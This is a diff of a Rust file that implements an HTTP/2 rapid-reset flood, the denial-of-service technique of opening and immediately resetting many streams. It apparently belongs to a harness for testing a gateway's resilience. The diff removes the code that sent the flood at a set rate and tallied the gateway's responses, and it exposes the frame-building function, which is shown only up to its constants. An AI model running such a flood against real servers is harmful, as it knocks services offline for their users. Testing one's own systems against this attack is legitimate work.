@@ -1,56 +1,12 @@
 //! Rapid resets over HTTP/2, frame by frame, since no library sends them.
 
-use std::io;
-use std::rc::Rc;
-use std::time::Duration;
-
-use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
-use tokio::time::timeout;
-
-use super::attack::{Attack, at_rate};
-use super::tally::Outcome;
 use crate::origin::REFUSED;
 
 /// Streams that one connection opens and resets.
 const STREAMS: u32 = 1000;
 
-/// The time that an attacker waits for the end of its connection.
-const PATIENCE: Duration = Duration::from_secs(5);
-
-/// HTTP/2 connections on which each request is reset as soon as it is sent.
-pub async fn rapid_resets(attack: Rc<Attack>, rate: u32) {
-    let flood: Rc<[u8]> = resets(&attack.wrong).into();
-    at_rate(rate, |_| {
-        let (attack, flood) = (attack.clone(), flood.clone());
-        async move {
-            let outcome = match timeout(PATIENCE, until_the_end(&attack, &flood)).await {
-                Ok(Ok(())) => Outcome::Closed,
-                Ok(Err(error)) => Outcome::of(&error),
-                Err(_) => Outcome::Ignored,
-            };
-            attack.count("rapid resets", outcome);
-        }
-    })
-    .await;
-}
-
-/// Sends as much as the gateway takes, and reads until the connection ends.
-async fn until_the_end(attack: &Attack, bytes: &[u8]) -> io::Result<()> {
-    let (mut reader, mut writer) = attack.connect().await?.into_split();
-    let send = async {
-        // The gateway may end the connection at any byte.
-        let _ = writer.write_all(bytes).await;
-    };
-    let receive = async {
-        let mut buffer = [0; 4096];
-        while reader.read(&mut buffer).await? > 0 {}
-        Ok(())
-    };
-    tokio::join!(send, receive).1
-}
-
 /// The preface, and then each stream opened and reset (RFC 9113 §6.4).
-fn resets(token: &str) -> Vec<u8> {
+pub fn bytes(token: &str) -> Vec<u8> {
     const HEADERS: u8 = 1;
     const RST_STREAM: u8 = 3;
     const SETTINGS: u8 = 4;
